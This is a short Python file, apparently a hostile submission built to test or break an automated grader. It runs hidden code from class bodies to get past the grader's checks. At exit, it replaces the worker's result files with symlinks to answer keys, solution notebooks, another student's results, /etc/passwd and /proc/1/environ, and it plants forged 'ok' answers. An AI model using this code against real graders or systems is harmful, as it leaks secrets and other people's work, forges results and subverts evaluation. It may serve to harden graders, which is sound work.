"""After the worker answers (atexit), links the answers to host files: the keys, the solutions,
another student's report, /etc/passwd, and a planted perfect answer in the work folder's parent
(an existence oracle and a forged answer if the grader followed links)."""

import atexit
import contextlib
import glob
import json
import os


def _attack():
    global TARGETS
    TARGETS = (
        "__KEYS__/cls_test.csv",
        "__REPO__/solutions/hw2p2_source.ipynb",
        "__OUT__/correct/results.json",
        "/etc/passwd",
        "/proc/1/environ",
    )


class _Armed:  # top-level statements are skipped by the grader; a class body runs
    _attack()


def swap():
    planted = os.path.abspath("planted")
    with contextlib.suppress(OSError):
        os.mkdir(planted)
    for path in sorted(glob.glob("result_*.json")):
        index = int(path[len("result_") : -len(".json")])
        with contextlib.suppress(OSError), open(f"{planted}/{index}.json", "w") as handle:
            json.dump({"protocol": 2, "index": index, "status": "ok"}, handle)
    for number, path in enumerate(sorted(glob.glob("result_*") + glob.glob("load_*.json"))):
        with contextlib.suppress(OSError):
            os.remove(path)
            if path.endswith(".json") and path.startswith("result_") and number % 2:
                os.symlink(f"{planted}/{path[len('result_') : -len('.json')]}.json", path)
            else:
                os.symlink(TARGETS[number % len(TARGETS)], path)


def _attack1():
    atexit.register(swap)


class _Armed1:  # top-level statements are skipped by the grader; a class body runs
    _attack1()
